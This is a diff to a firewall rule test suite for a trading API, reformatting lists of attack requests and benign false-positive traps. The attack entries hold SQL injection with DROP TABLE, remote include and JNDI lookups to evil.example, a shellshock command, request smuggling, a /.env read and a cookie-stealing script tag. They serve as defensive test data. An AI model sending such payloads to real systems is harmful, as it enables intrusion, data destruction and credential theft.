@@ -18,7 +18,7 @@ const FAMILIES: Family[] = [
   {
     family: 'sqli',
     attacks: [
-      ["quote break tautology", q("1' or '1'='1")],
+      ['quote break tautology', q("1' or '1'='1")],
       ['union select with comments', q('1 UN/**/ION SEL/**/ECT password FROM users--')],
       ['time-based blind', q("1' AND SLEEP(5)#")],
       ['stacked query', q("x'; DROP TABLE orders;--")],
@@ -51,8 +51,16 @@ const FAMILIES: Family[] = [
   },
   {
     family: 'rfi',
-    attacks: [['include of a URL', q('include("http://evil.example/shell.txt")')], ['IP URL', q('http://203.0.113.9/x.txt?')]],
-    benign: [['webhook to a public host', postJson('/api/v1/notify/channels', { webhook_url: 'https://hooks.slack.com/services/T/B/X' })]],
+    attacks: [
+      ['include of a URL', q('include("http://evil.example/shell.txt")')],
+      ['IP URL', q('http://203.0.113.9/x.txt?')],
+    ],
+    benign: [
+      [
+        'webhook to a public host',
+        postJson('/api/v1/notify/channels', { webhook_url: 'https://hooks.slack.com/services/T/B/X' }),
+      ],
+    ],
   },
   {
     family: 'rce',
@@ -62,7 +70,12 @@ const FAMILIES: Family[] = [
       ['shellshock in a header', get('/api/v1/clock', { 'User-Agent': '() { :; }; /bin/bash -c "id"' })],
       ['windows batch', q('for /f %i in (dir) do echo %i')],
     ],
-    benign: [['note with &&', postJson('/api/v1/orders', { symbol: 'AAPL', qty: '1', note: 'buy the dip && hold -- sell at 200' })]],
+    benign: [
+      [
+        'note with &&',
+        postJson('/api/v1/orders', { symbol: 'AAPL', qty: '1', note: 'buy the dip && hold -- sell at 200' }),
+      ],
+    ],
   },
   {
     family: 'php/node/java',
@@ -82,7 +95,12 @@ const FAMILIES: Family[] = [
       ['spel', q('${T(java.lang.Runtime).getRuntime().exec("id")}')],
       ['ruby', q('#{7*7}')],
     ],
-    benign: [['placeholder', postJson('/api/v1/notify/channels', { template: 'Signal {{symbol}} fired at ${price}' })]],
+    benign: [
+      [
+        'placeholder',
+        postJson('/api/v1/notify/channels', { template: 'Signal {{symbol}} fired at ${price}' }),
+      ],
+    ],
   },
   {
     family: 'ssrf',
@@ -111,7 +129,10 @@ const FAMILIES: Family[] = [
     attacks: [
       ['header injection', get('/api/v1/assets?next=%0d%0aSet-Cookie:%20a=b')],
       ['jndi in a header', get('/api/v1/clock', { 'X-Api-Version': '${jndi:ldap://evil.example/a}' })],
-      ['obfuscated jndi', get('/api/v1/clock', { 'User-Agent': '${${lower:j}${::-n}${env:X:-d}i:ldap://x/a}' })],
+      [
+        'obfuscated jndi',
+        get('/api/v1/clock', { 'User-Agent': '${${lower:j}${::-n}${env:X:-d}i:ldap://x/a}' }),
+      ],
       ['sqlmap', get('/api/v1/clock', { 'User-Agent': 'sqlmap/1.8#stable (https://sqlmap.org)' })],
       ['session id argument', get('/login?jsessionid=74B0CB414BD77D17')],
     ],
@@ -121,7 +142,14 @@ const FAMILIES: Family[] = [
     family: 'protocol',
     attacks: [
       ['unknown method', { ...get('/api/v1/clock'), method: 'TRACK' }],
-      ['CL and TE', { ...get('/api/v1/clock'), method: 'POST', headers: { Host: 'h', 'Content-Length': '4', 'Transfer-Encoding': 'chunked' } }],
+      [
+        'CL and TE',
+        {
+          ...get('/api/v1/clock'),
+          method: 'POST',
+          headers: { Host: 'h', 'Content-Length': '4', 'Transfer-Encoding': 'chunked' },
+        },
+      ],
       ['null byte', get('/api/v1/assets?symbol=AAPL%00.php')],
       ['restricted file', get('/.env')],
       ['content type', postForm('/api/v1/x', '{}', 'application/csp-report')],
@@ -149,16 +177,42 @@ describe('rule families', () => {
 
 describe('false-positive traps from the CRS deployment', () => {
   it('lets signal expressions through on the signals route', () => {
-    const expressions = ['crossover(sma(close, 50), sma(close, 200)) and rsi(14) < 70', 'close > bbands(20, 2).upper or volume > 2 * sma(volume, 20)', 'round(close, 2) = round(open, 2)'];
-    for (const expression of expressions) expect(rulesOf(postJson('/api/v1/signals', { name: 'x', expression }))).toEqual([]);
+    const expressions = [
+      'crossover(sma(close, 50), sma(close, 200)) and rsi(14) < 70',
+      'close > bbands(20, 2).upper or volume > 2 * sma(volume, 20)',
+      'round(close, 2) = round(open, 2)',
+    ];
+    for (const expression of expressions)
+      expect(rulesOf(postJson('/api/v1/signals', { name: 'x', expression }))).toEqual([]);
   });
 
   it('lets notes with &&, --, quotes, Cyrillic, CJK and emoji through', () => {
-    const notes = ['Buy the dip && hold', "Stop at 182 -- O'Brien's idea", 'Купить после отчёта', '決算後に買い増し', 'Earnings 🚀 trim 50%', '"Don\'t fight the Fed" -- classic'];
-    for (const note of notes) expect(rulesOf(postJson('/api/v1/orders', { symbol: 'AAPL', qty: '5', limit_price: '10.50', client_order_id: 'a-1', note }))).toEqual([]);
+    const notes = [
+      'Buy the dip && hold',
+      "Stop at 182 -- O'Brien's idea",
+      'Купить после отчёта',
+      '決算後に買い増し',
+      'Earnings 🚀 trim 50%',
+      '"Don\'t fight the Fed" -- classic',
+    ];
+    for (const note of notes)
+      expect(
+        rulesOf(
+          postJson('/api/v1/orders', {
+            symbol: 'AAPL',
+            qty: '5',
+            limit_price: '10.50',
+            client_order_id: 'a-1',
+            note,
+          }),
+        ),
+      ).toEqual([]);
   });
 
   it('still blocks a script tag in a free-text note', () => {
-    expect(firewall.inspect(postJson('/api/v1/orders', { note: '<script>alert(document.cookie)</script>' })).action).toBe('block');
+    expect(
+      firewall.inspect(postJson('/api/v1/orders', { note: '<script>alert(document.cookie)</script>' }))
+        .action,
+    ).toBe('block');
   });
 });
